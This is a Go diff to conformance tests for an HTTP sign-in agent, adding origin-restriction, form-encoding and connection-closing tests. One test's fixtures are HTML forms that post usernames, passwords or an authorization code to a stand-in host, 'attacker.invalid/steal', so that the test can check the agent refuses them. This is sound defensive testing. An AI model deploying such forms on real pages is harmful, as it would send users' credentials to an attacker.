@@ -2,6 +2,7 @@ package conformance
 
 import (
 	"context"
+	"errors"
 	"io"
 	"net/http"
 	"net/http/httptest"
@@ -105,7 +106,7 @@ func TestHTTPAgentSignsInAndSubmitsFormPost(t *testing.T) {
 	// The test server plays the provider and the relying party, so the
 	// agent is told of a callback server elsewhere and submits the
 	// form_post page to the test server like any other form.
-	agent := newHTTPAgent(server.Client(), "http://callback.invalid", "127.0.0.1", selectors, "alice", "secret")
+	agent := newHTTPAgent(server.Client(), "http://callback.invalid", server.URL, selectors, "alice", "secret")
 
 	nav, err := agent.navigate(context.Background(), server.URL+"/authorize", navigateOptions{})
 	if err != nil {
@@ -141,7 +142,7 @@ func TestHTTPAgentPostsFragment(t *testing.T) {
 	server := httptest.NewServer(site)
 	defer server.Close()
 	selectors, _ := compileSelectors(DefaultSelectors())
-	agent := newHTTPAgent(server.Client(), server.URL, "provider.invalid", selectors, "alice", "secret")
+	agent := newHTTPAgent(server.Client(), server.URL, "https://provider.invalid", selectors, "alice", "secret")
 
 	nav, err := agent.navigate(context.Background(), server.URL+"/callback#id_token=a.b.c&state=s%2B1", navigateOptions{})
 	if err != nil {
@@ -163,12 +164,132 @@ func TestHTTPAgentStopsAtOtherHosts(t *testing.T) {
 	}))
 	defer server.Close()
 	selectors, _ := compileSelectors(DefaultSelectors())
-	agent := newHTTPAgent(server.Client(), "http://callback.invalid", "127.0.0.1", selectors, "alice", "secret")
+	agent := newHTTPAgent(server.Client(), "http://callback.invalid", server.URL, selectors, "alice", "secret")
 	nav, err := agent.navigate(context.Background(), server.URL+"/authorize", navigateOptions{})
 	if err != nil {
 		t.Fatal(err)
 	}
 	if nav.ExternalRedirect != "https://rp.example.org/callback?code=x" {
 		t.Errorf("external redirect = %q", nav.ExternalRedirect)
+	}
+}
+
+// hostRecorder is a transport that sends requests to one host and records
+// the requests to any other host without sending them.
+type hostRecorder struct {
+	allowed string
+	next    http.RoundTripper
+
+	mu      sync.Mutex
+	blocked []string
+	closed  int
+}
+
+func (h *hostRecorder) RoundTrip(r *http.Request) (*http.Response, error) {
+	if r.URL.Host != h.allowed {
+		h.mu.Lock()
+		h.blocked = append(h.blocked, r.URL.String())
+		h.mu.Unlock()
+		return nil, errors.New("the test transport sends nothing to " + r.URL.Host)
+	}
+	return h.next.RoundTrip(r)
+}
+
+func (h *hostRecorder) CloseIdleConnections() {
+	h.mu.Lock()
+	defer h.mu.Unlock()
+	h.closed++
+}
+
+func TestHTTPAgentRefusesFormsToOtherOrigins(t *testing.T) {
+	pages := map[string]string{
+		"login":      `<form method="post" action="https://attacker.invalid/steal"><input name="username"><input type="password" name="password"><button type="submit">Sign in</button></form>`,
+		"consent":    `<form method="post" action="https://attacker.invalid/consent"><button name="decision" value="allow">Allow</button></form>`,
+		"form_post":  `<body onload="document.forms[0].submit()"><form method="post" action="https://attacker.invalid/callback"><input type="hidden" name="code" value="xyz"></form></body>`,
+		"other port": `<form method="post" action="/login"><input name="username"><input type="password" name="password"><button type="submit">Sign in</button></form>`,
+	}
+	for name, page := range pages {
+		t.Run(name, func(t *testing.T) {
+			server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+				w.Header().Set("Content-Type", "text/html")
+				_, _ = io.WriteString(w, page)
+			}))
+			defer server.Close()
+			transport := &hostRecorder{allowed: strings.TrimPrefix(server.URL, "http://"), next: server.Client().Transport}
+			selectors, _ := compileSelectors(DefaultSelectors())
+			issuer := server.URL
+			if name == "other port" {
+				// The page is served from another port than the issuer's,
+				// so its relative action leaves the provider's origin.
+				issuer = "http://127.0.0.1:1"
+			}
+			agent := newHTTPAgent(&http.Client{Transport: transport}, "http://callback.invalid", issuer, selectors, "alice", "secret")
+
+			_, err := agent.navigate(context.Background(), server.URL+"/authorize", navigateOptions{})
+			if err == nil || !strings.Contains(err.Error(), "did not submit it") {
+				t.Errorf("error = %v, expected the form to be refused", err)
+			}
+			transport.mu.Lock()
+			defer transport.mu.Unlock()
+			if len(transport.blocked) > 0 {
+				t.Errorf("the agent sent requests to other origins: %v", transport.blocked)
+			}
+		})
+	}
+}
+
+func TestHTTPAgentFormEnctypes(t *testing.T) {
+	cases := []struct {
+		enctype     string
+		contentType string
+		body        string
+	}{
+		{"", "application/x-www-form-urlencoded", "code=a+b&state=s%261"},
+		{"text/plain", "text/plain", "code=a b\r\nstate=s&1\r\n"},
+		{"multipart/form-data", "multipart/form-data", `name="code"`},
+	}
+	for _, c := range cases {
+		t.Run(c.contentType, func(t *testing.T) {
+			var mu sync.Mutex
+			var gotType, gotBody string
+			server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+				if r.Method == http.MethodPost {
+					body, _ := io.ReadAll(r.Body)
+					mu.Lock()
+					gotType, gotBody = r.Header.Get("Content-Type"), string(body)
+					mu.Unlock()
+					return
+				}
+				w.Header().Set("Content-Type", "text/html")
+				_, _ = io.WriteString(w, `<body onload="document.forms[0].submit()"><form method="post" action="/callback" enctype="`+c.enctype+
+					`"><input type="hidden" name="code" value="a b"><input type="hidden" name="state" value="s&amp;1"></form></body>`)
+			}))
+			defer server.Close()
+			selectors, _ := compileSelectors(DefaultSelectors())
+			agent := newHTTPAgent(server.Client(), "http://callback.invalid", server.URL, selectors, "alice", "secret")
+			if _, err := agent.navigate(context.Background(), server.URL+"/form_post", navigateOptions{}); err != nil {
+				t.Fatal(err)
+			}
+			mu.Lock()
+			defer mu.Unlock()
+			if !strings.HasPrefix(gotType, c.contentType) {
+				t.Errorf("Content-Type = %q, expected %s", gotType, c.contentType)
+			}
+			if !strings.Contains(gotBody, c.body) {
+				t.Errorf("body = %q, expected it to contain %q", gotBody, c.body)
+			}
+		})
+	}
+}
+
+func TestHTTPAgentCloseClosesIdleConnections(t *testing.T) {
+	transport := &hostRecorder{allowed: "op.invalid", next: http.DefaultTransport}
+	selectors, _ := compileSelectors(DefaultSelectors())
+	agent := newHTTPAgent(&http.Client{Transport: transport}, "http://callback.invalid", "https://op.invalid", selectors, "alice", "secret")
+	agent.close()
+	transport.mu.Lock()
+	defer transport.mu.Unlock()
+	if transport.closed != 1 {
+		t.Errorf("CloseIdleConnections was called %d times, expected once", transport.closed)
 	}
 }
